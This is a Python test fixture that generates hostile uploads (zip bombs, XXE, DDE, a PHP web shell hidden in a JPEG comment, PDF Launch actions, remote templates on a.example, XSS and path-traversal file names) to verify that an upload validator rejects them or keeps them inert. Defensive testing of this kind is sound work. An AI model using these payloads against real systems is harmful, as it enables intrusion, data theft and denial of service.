"""Hostile uploads as data: what each is, how its bytes are made, and what must become of it.

DITOLAK: answered with a sentence, nothing kept. LEMBAM: kept, and handed out in a way that nothing
of it runs. Bytes are made when they are needed: some of these unfold to a hundred megabytes.
"""

import io
import zipfile
from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from struct import pack, unpack_from

from tests.pelaksanaan.conftest import JPEG, MEGA, PDF, PNG, WEBP, office, png

DITOLAK, LEMBAM = "ditolak", "lembam"
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
GIF = b"GIF89a\x01\0\x01\0\0\0\0;"
RELASI = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@dataclass(frozen=True)
class Jahat:
    """One hostile upload: ``berkas`` is the name it comes with, ``kata`` a part of the refusal."""

    nama: str
    berkas: str
    isi: Callable[[], bytes]
    harap: str = DITOLAK
    kata: str = ""


def arsip(cara: int = zipfile.ZIP_DEFLATED, **bagian: bytes) -> bytes:
    """A workbook's parts packed in some way ("__" stands for "/")."""
    tampung = io.BytesIO()
    isi = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
    isi |= {nama.replace("__", "/"): satu for nama, satu in bagian.items()}
    with zipfile.ZipFile(tampung, "w", cara) as hasil:
        for nama, satu in isi.items():
            hasil.writestr(nama, satu)
    return tampung.getvalue()


def _lying() -> bytes:
    """A part that unpacks to more than the table says."""
    isi = arsip(xl__besar=b"A" * MEGA)
    return isi.replace(MEGA.to_bytes(4, "little"), (10).to_bytes(4, "little"))


def _flagged(letak: int, bit: int) -> bytes:
    isi = bytearray(arsip())
    isi[isi.index(b"PK\x01\x02") + letak] |= bit
    return bytes(isi)


def _damaged() -> bytes:
    """A stored part with one letter changed: the checksum no longer fits."""
    return arsip(zipfile.ZIP_STORED, xl__a=b"ISI-YANG-BENAR").replace(b"YANG-BENAR", b"YANG-salah")


def _table(banyak: int, *, mengaku: int | None = None) -> bytes:
    """A table of that many entries, none of which leads anywhere."""
    entri = pack("<4s6H3I5H2I", b"PK\x01\x02", *[20] * 2, *[0] * 4, *[0] * 3, 1, *[0] * 4, 0, 0)
    daftar = (entri + b"a") * banyak
    awal = b"PK\x03\x04" + b"\0" * 26
    jumlah = min(banyak if mengaku is None else mengaku, 0xFFFF)
    return awal + daftar + _akhir(jumlah, len(daftar), len(awal))


def _akhir(jumlah: int, panjang: int, letak: int) -> bytes:
    return pack("<4s4H2IH", b"PK\x05\x06", 0, 0, jumlah, jumlah, panjang, letak, 0)


def _overlapping() -> bytes:
    """Sixty names for one part of 9 MB: the table says 540 MB (the better zip bomb)."""
    isi = arsip(xl__besar=b"\0" * (9 * MEGA))
    letak = isi.index(b"PK\x01\x02")
    daftar, akhir = isi[letak:-22], isi[-22:]
    terakhir = daftar[daftar.rindex(b"PK\x01\x02") :]
    daftar += terakhir * 60
    return isi[:letak] + daftar + _akhir(unpack_from("<H", akhir, 10)[0] + 60, len(daftar), letak)


def _zip64_locator() -> bytes:
    isi = arsip()
    lokator = pack("<4sIQI", b"PK\x06\x07", 0, len(isi) - 22, 1)
    return isi[:-22] + lokator + isi[-22:]


def _zip64_in_comment() -> bytes:
    """The 64-bit twin hidden in the last entry's comment, within the table's own bounds."""
    tampung = io.BytesIO(arsip())
    with zipfile.ZipFile(tampung, "a") as hasil:
        kembar = pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 9, 9, 5 * MEGA, 0)
        hasil.infolist()[-1].comment = kembar + pack("<4sIQI", b"PK\x06\x07", 0, 0, 1)
        hasil._didModify = True  # type: ignore[attr-defined]
    return tampung.getvalue()


def _nested(dalam: int) -> bytes:
    isi = b"\0" * MEGA
    for _ in range(dalam):
        isi = arsip(xl__embeddings__dalam=isi)
    return isi


def _rels(jenis: str, tujuan: str, sandi: str = "utf-8") -> bytes:
    teks = (
        f'<Relationships><Relationship Id="a" Type="{RELASI}{jenis}" Target="{tujuan}" '
        'TargetMode="External"/></Relationships>'
    )
    return office("docx", **{"word___rels__settings.xml.rels": teks.encode(sandi)})


def _types(isi: bytes) -> bytes:
    return office("docx", **{"[Content_Types].xml": isi})


def _png_chunks() -> bytes:
    """Four hundred thousand empty parts, never an end."""
    return PNG[:33] + (pack(">I4s", 0, b"teXt") + b"\0\0\0\0") * 400_000


def _jpeg(lebar: int, tinggi: int, sebelum: bytes = b"") -> bytes:
    rangka = b"\xff\xc0" + pack(">HBHHB", 11, 8, tinggi, lebar, 1) + b"\x01\x11\0"
    return b"\xff\xd8" + sebelum + rangka + JPEG[JPEG.index(b"\xff\xc4") :]


def _komentar(isi: bytes) -> bytes:
    return b"\xff\xfe" + pack(">H", len(isi) + 2) + isi


def _pdf(tambahan: bytes) -> bytes:
    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + tambahan)


def _vp8x(sisi: int) -> bytes:
    isi = b"VP8X" + pack("<I", 10) + b"\0" * 4 + (sisi - 1).to_bytes(3, "little") * 2
    return b"RIFF" + pack("<I", len(isi) + 4) + b"WEBP" + isi


def _bombs() -> Iterator[Jahat]:
    nol = b"\0" * (99 * MEGA)
    yield Jahat("bom 101 MB", "a.xlsx", lambda: arsip(xl__a=b"\0" * (101 * MEGA)), kata="besar")
    yield Jahat(
        "bom dua bagian", "a.xlsx", lambda: arsip(xl__a=nol[: 60 * MEGA], xl__b=nol[: 60 * MEGA])
    )
    yield Jahat("ukuran bohong", "a.xlsx", _lying, kata="rusak")
    yield Jahat("Content_Types 99 MB", "a.docx", lambda: _types(nol), kata="besar")
    yield Jahat("relasi 99 MB", "a.docx", lambda: office("docx", **{"_rels__.rels": nol}))
    yield Jahat("mimetype 99 MB", "a.odt", lambda: office("odt", mimetype=nol))
    yield Jahat("manifest 99 MB", "a.ods", lambda: office("ods", **{"META-INF__manifest.xml": nol}))
    yield Jahat("bagian bertumpuk", "a.xlsx", _overlapping)
    yield Jahat("2001 bagian", "a.xlsx", lambda: arsip(**{f"xl__{n}": b"" for n in range(2001)}))
    yield Jahat("daftar 100.000 bagian", "a.xlsx", lambda: _table(100_000))
    yield Jahat("daftar 60.000 mengaku 2", "a.xlsx", lambda: _table(60_000, mengaku=2))
    yield Jahat("daftar 10.000 mengaku 0", "a.xlsx", lambda: _table(10_000, mengaku=0))
    yield Jahat("zip64", "a.xlsx", _zip64_locator)
    yield Jahat("zip64 dalam komentar", "a.xlsx", _zip64_in_comment)
    yield Jahat("arsip dalam arsip 8 lapis", "a.xlsx", lambda: _nested(8), LEMBAM)
    yield Jahat(
        "500 relasi",
        "a.docx",
        lambda: office("docx", **{f"r__{n}.rels": b"<a/>" for n in range(501)}),
    )


def _archives() -> Iterator[Jahat]:
    yield Jahat("bzip2", "a.xlsx", lambda: arsip(zipfile.ZIP_BZIP2))
    yield Jahat("lzma", "a.xlsx", lambda: arsip(zipfile.ZIP_LZMA))
    yield Jahat("terenkripsi", "a.xlsx", lambda: _flagged(8, 1))
    yield Jahat("bagian rusak", "a.xlsx", _damaged)
    yield Jahat("terpotong", "a.xlsx", lambda: arsip()[:-10])
    yield Jahat("didahului kepala palsu", "a.xlsx", lambda: b"PK\x03\x04" + b"\0" * 40 + arsip())
    yield Jahat("diakhiri HTML", "a.xlsx", lambda: arsip() + HTML)
    yield Jahat("komentar arsip", "a.xlsx", lambda: arsip()[:-2] + pack("<H", len(HTML)) + HTML)
    yield Jahat("bagian keluar folder", "a.xlsx", lambda: arsip(**{"..__..__etc__passwd": b"x"}))
    yield Jahat("bagian keluar, garis terbalik", "a.xlsx", lambda: arsip(**{"..\\..\\a": b"x"}))
    yield Jahat("bagian dari akar", "a.xlsx", lambda: arsip(__etc__passwd=b"x"))
    yield Jahat("bagian dengan huruf kandar", "a.xlsx", lambda: arsip(**{"C:__a": b"x"}))
    yield Jahat("kembar beda huruf", "a.xlsx", lambda: arsip(**{"[content_types].xml": b"x"}))
    yield Jahat("hanya akhir arsip", "a.xlsx", lambda: b"PK\x05\x06" + b"\0" * 18)
    yield Jahat("makro", "a.xlsx", lambda: arsip(**{"xl__vbaProject.bin": b"x"}), kata="makro")
    yield Jahat(
        "makro huruf besar", "a.docx", lambda: office("docx", **{"WORD__VBAPROJECT.BIN": b"x"})
    )
    yield Jahat("lembar makro lama", "a.xlsx", lambda: arsip(**{"xl__macrosheets__1.xml": b"x"}))
    yield Jahat("ActiveX", "a.pptx", lambda: office("pptx", **{"ppt__activeX__1.bin": b"x"}))
    yield Jahat("makro LibreOffice", "a.odt", lambda: office("odt", **{"Basic__script.xml": b"x"}))
    yield Jahat(
        "skrip LibreOffice", "a.ods", lambda: office("ods", **{"Scripts__python__a.py": b"x"})
    )
    yield Jahat(
        "jenis bermakro", "a.docx", lambda: _types(b"x.macroEnabled.main+xml"), kata="makro"
    )
    yield Jahat(
        "jenis bermakro UTF-16", "a.docx", lambda: _types("x.macroEnabled".encode("utf-16"))
    )
    yield Jahat(
        "jenis bermakro tersamar", "a.docx", lambda: _types(b"macro&#69;nabled"), kata="makro"
    )
    yield Jahat(
        "templat jauh", "a.docx", lambda: _rels("attachedTemplate", "http://a.example/t.dotm")
    )
    yield Jahat("templat UNC", "a.docx", lambda: _rels("attachedTemplate", "\\\\a.example\\t"))
    yield Jahat(
        "objek jauh UTF-16", "a.docx", lambda: _rels("oleObject", "https://a.example", "utf-16")
    )
    yield Jahat("bingkai jauh", "a.docx", lambda: _rels("frame", "file://a.example/x"))
    yield Jahat("docx bernama xlsx", "a.xlsx", lambda: office("docx"), kata="rusak")
    yield Jahat("ods bernama odt", "a.odt", lambda: office("ods"), kata="rusak")
    yield Jahat(
        "odt terkunci",
        "a.odt",
        lambda: office("odt", **{"META-INF__manifest.xml": b"<encryption-data/>"}),
    )
    yield Jahat(
        "bom XML",
        "a.docx",
        lambda: office("docx", word__a=b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 999 + b'">]>'),
        LEMBAM,
    )
    yield Jahat(
        "XXE",
        "a.xlsx",
        lambda: arsip(
            **{
                "xl__sharedStrings.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
            }
        ),
        LEMBAM,
    )
    yield Jahat("DDE", "a.xlsx", lambda: arsip(**{"xl__a.xml": b"<f>cmd|'/C calc'!A1</f>"}), LEMBAM)


def _polyglots() -> Iterator[Jahat]:
    yield Jahat("PDF dan arsip", "a.pdf", lambda: PDF + arsip(), kata="menyembunyikan")
    yield Jahat("JPG dan arsip", "a.jpg", lambda: JPEG + arsip(), kata="menyembunyikan")
    yield Jahat("PNG dan arsip", "a.png", lambda: PNG + arsip(), kata="menyembunyikan")
    yield Jahat("WEBP dan arsip", "a.webp", lambda: WEBP + arsip(), kata="menyembunyikan")
    yield Jahat("PDF dan HTML", "a.pdf", lambda: b"%PDF-1.4\n" + HTML + PDF, kata="menyembunyikan")
    yield Jahat("HTML lalu PDF", "a.pdf", lambda: HTML + PDF, kata="bukan PDF")
    yield Jahat(
        "JPG dan PHP", "a.jpg", lambda: _jpeg(1, 1, _komentar(b"<?php system($_GET[0]);?>"))
    )
    yield Jahat("PNG dan SVG", "a.png", lambda: PNG[:33] + SVG)
    yield Jahat("WEBP dan HTML", "a.webp", lambda: WEBP + HTML)
    yield Jahat(
        "JPG dan HTML jauh di dalam",
        "a.jpg",
        lambda: _jpeg(1, 1, _komentar(b" " * 2000 + HTML)),
        LEMBAM,
    )
    yield Jahat("PNG diikuti skrip jauh", "a.png", lambda: PNG + b" " * 2000 + HTML, LEMBAM)
    yield Jahat(
        "JPG dan JavaScript", "a.jpg", lambda: _jpeg(1, 1, _komentar(b"*/=alert(1)/*")), LEMBAM
    )
    yield Jahat(
        "PDF JavaScript",
        "a.pdf",
        lambda: _pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        LEMBAM,
    )
    yield Jahat("PDF Launch", "a.pdf", lambda: _pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), LEMBAM)
    yield Jahat(
        "PDF bermuatan EXE", "a.pdf", lambda: PDF.replace(b"trailer", EXE + b"\ntrailer"), LEMBAM
    )


def _wrong_kinds() -> Iterator[Jahat]:
    yield Jahat("SVG", "a.svg", lambda: SVG, kata="tidak diterima")
    yield Jahat("SVG bernama PNG", "a.png", lambda: SVG, kata="bukan PNG")
    yield Jahat("SVG bernama JPG", "a.jpg", lambda: SVG, kata="bukan JPG")
    yield Jahat("HTML", "a.html", lambda: HTML, kata="tidak diterima")
    yield Jahat("HTML bernama PDF dengan BOM", "a.pdf", lambda: b"\xef\xbb\xbf" + HTML)
    yield Jahat("EXE", "a.exe", lambda: EXE, kata="tidak diterima")
    yield Jahat("EXE bernama PDF", "a.pdf", lambda: EXE, kata="bukan PDF")
    yield Jahat("dua akhiran", "laporan.pdf.exe", lambda: PDF, kata="tidak diterima")
    yield Jahat("akhiran HTML di belakang", "laporan.pdf.html", lambda: PDF)
    yield Jahat("pintasan Windows", "a.lnk", lambda: b"L\0\0\0", kata="tidak diterima")
    yield Jahat("HTA", "a.hta", lambda: HTML, kata="tidak diterima")
    yield Jahat("MHTML bernama PDF", "a.pdf", lambda: b"MIME-Version: 1.0\n" + HTML)
    yield Jahat("RTF bernama DOCX", "a.docx", lambda: b"{\\rtf1\\object}", kata="bukan DOCX")
    yield Jahat("DOC bernama DOCX", "a.docx", lambda: OLE, kata="bukan DOCX")
    yield Jahat("buku bermakro", "a.xlsm", lambda: arsip(), kata="tidak diterima")
    yield Jahat("arsip", "a.zip", lambda: arsip(), kata="Arsip")
    yield Jahat("GIF bernama JPG", "a.jpg", lambda: GIF, kata="bukan JPG")
    yield Jahat("HEIC", "IMG.HEIC", lambda: b"\0\0\0\x18ftypheic", kata="JPG")
    yield Jahat("kosong", "a.pdf", lambda: b"", kata="kosong")
    yield Jahat("satu byte", "a.png", lambda: b"\x89")
    yield Jahat("PDF tanpa akhir", "a.pdf", lambda: b"%PDF-1.7\n" + b" " * 5000, kata="terpotong")
    yield Jahat(
        "PDF 6 MB", "a.pdf", lambda: b"%PDF-" + b" " * (6 * MEGA) + b"%%EOF", kata="paling besar"
    )


def _pictures() -> Iterator[Jahat]:
    yield Jahat("PNG 60.000 x 60.000", "a.png", lambda: png(60_000, 60_000), kata="piksel")
    yield Jahat("PNG sangat panjang", "a.png", lambda: png(1, 2_000_000), kata="piksel")
    yield Jahat("PNG tanpa ukuran", "a.png", lambda: png(0, 0), kata="rusak")
    yield Jahat("JPG 65.535 x 65.535", "a.jpg", lambda: _jpeg(65_535, 65_535), kata="piksel")
    yield Jahat("WEBP 16.777.216 x 16.777.216", "a.webp", lambda: _vp8x(2**24), kata="piksel")
    yield Jahat("PNG tanpa akhir", "a.png", lambda: PNG[:-12], kata="rusak")
    yield Jahat(
        "PNG bagian 4 GB", "a.png", lambda: PNG[:33] + b"\xff\xff\xff\xffIDAT", kata="rusak"
    )
    yield Jahat("PNG 400.000 bagian", "a.png", _png_chunks, kata="rusak")
    yield Jahat("JPG tanpa rangka", "a.jpg", lambda: b"\xff\xd8\xff\xd9", kata="rusak")
    yield Jahat("JPG bagian nol", "a.jpg", lambda: b"\xff\xd8\xff\xe0\0\0" * 1000, kata="rusak")
    yield Jahat("JPG penuh pengisi", "a.jpg", lambda: b"\xff\xd8" + b"\xff" * MEGA, kata="rusak")
    yield Jahat("WEBP terpotong", "a.webp", lambda: WEBP[:32], kata="rusak")


def _names() -> Iterator[Jahat]:
    for nomor, nama in enumerate(
        [
            "../../etc/cron.d/a.pdf",
            "..\\..\\windows\\a.pdf",
            "/etc/passwd.pdf",
            "C:\\a.pdf",
            "%2e%2e%2fa.pdf",
            "CON.pdf",
            "a.pdf;.pdf",
            "<img src=x onerror=alert(1)>.pdf",
            "lapor\N{RIGHT-TO-LEFT OVERRIDE}an.pdf",
            "a" * 200 + ".pdf",
            "\N{FULLWIDTH SOLIDUS}etc\N{FULLWIDTH SOLIDUS}a.pdf",
        ]
    ):
        yield Jahat(f"nama {nomor} {nama[:20]!r}", nama, lambda: PDF, LEMBAM)
    yield Jahat("nama hanya akhiran", ".pdf", lambda: PDF)
    yield Jahat("nama 300 huruf", "a" * 300 + ".pdf", lambda: PDF, LEMBAM)
    yield Jahat("nama berkas pengatur", ".htaccess", lambda: b"AddType text/html .pdf")


GOLONGAN = {
    "bom": [*_bombs()],
    "arsip": [*_archives()],
    "berwajah-dua": [*_polyglots()],
    "jenis-lain": [*_wrong_kinds()],
    "gambar": [*_pictures()],
    "nama": [*_names()],
}
KASUS = [satu for semua in GOLONGAN.values() for satu in semua]

BATAS = "----batas"


LAMBAT = ("alasan_terlambat", "", b"Jaringan puskesmas terputus.")


def kirim(*bagian: tuple[str, str, bytes], tambahan: bytes = b"", tutup: bool = True) -> bytes:
    """A multipart body: (name, file name, bytes); without a file name it is a field."""
    isi = b""
    for nama, berkas, satu in (LAMBAT, *bagian):
        isi += f'--{BATAS}\r\nContent-Disposition: form-data; name="{nama}"'.encode()
        isi += f'; filename="{berkas}"'.encode() * bool(berkas)
        isi += tambahan * bool(berkas) + b"\r\n\r\n" + satu + b"\r\n"
    return isi + f"--{BATAS}--\r\n".encode() * tutup


ISIAN = ("nilai", "", b"97,5")


def _many(banyak: int) -> bytes:
    return kirim(ISIAN, *[("berkas", f"{n}.pdf", PDF) for n in range(banyak)])


def _long_head() -> bytes:
    return kirim(ISIAN, ("berkas", "a.pdf", PDF), tambahan=b"; x=" + b"a" * MEGA)


def _base64_bomb() -> bytes:
    bom = b64encode(arsip(xl__a=b"\0" * (101 * MEGA)))
    kepala = b"\r\nContent-Transfer-Encoding: base64"
    return kirim(ISIAN, ("berkas", "a.xlsx", bom), tambahan=kepala)


def _large() -> bytes:
    return kirim(ISIAN, ("berkas", "a.pdf", b"%PDF-" + b" " * (15 * MEGA)))


def _cut_off() -> bytes:
    return kirim(ISIAN, ("berkas", "a.pdf", PDF[:40]), tutup=False)


# Bodies that lie about themselves: (name, bytes, Content-Length claimed, statuses it may get).
KIRIMAN: list[tuple[str, Callable[[], bytes], str, set[int]]] = [
    ("mengaku 10 GB", lambda: kirim(ISIAN), str(10 * 1024**3), {413}),
    ("mengaku 23 MB", lambda: kirim(ISIAN), str(23 * MEGA), {413}),
    ("mengaku panjang negatif", lambda: kirim(ISIAN), "-1", {400, 422}),
    ("panjang bukan angka", lambda: kirim(ISIAN), "banyak", {400, 422}),
    ("21 berkas", lambda: _many(21), "", {400}),
    ("11 berkas", lambda: _many(11), "", {422}),
    ("kepala bagian 1 MB", _long_head, "", {400, 422}),
    ("isian 3 MB", lambda: kirim(("nilai", "", b"9" * (3 * MEGA))), "", {400, 413}),
    ("2000 isian", lambda: kirim(*[(f"x{n}", "", b"1") for n in range(2000)]), "", {400}),
    ("bom dalam base64", _base64_bomb, "", {422}),
    ("berkas 15 MB", _large, "", {422}),
    ("terputus di tengah berkas", _cut_off, "", {302, 400, 422}),
]
